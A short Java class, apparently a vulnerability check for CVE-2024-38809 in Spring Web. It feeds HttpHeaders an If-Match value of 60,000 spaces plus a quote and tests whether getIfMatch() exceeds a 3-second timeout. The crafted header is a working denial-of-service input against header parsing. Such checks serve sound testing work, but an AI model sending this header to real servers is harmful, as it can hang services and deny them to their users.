public class D_spring_web_2024_38809 {
    public static String run() throws Throwable {
        var h = new org.springframework.http.HttpHeaders();
        h.set("If-Match", " ".repeat(60000) + "\"a");
        Object r = H.timed(3000, 0, () -> H.tr(() -> h.getIfMatch()));
        return H.v("TIMEOUT".equals(r), r);
    }
}
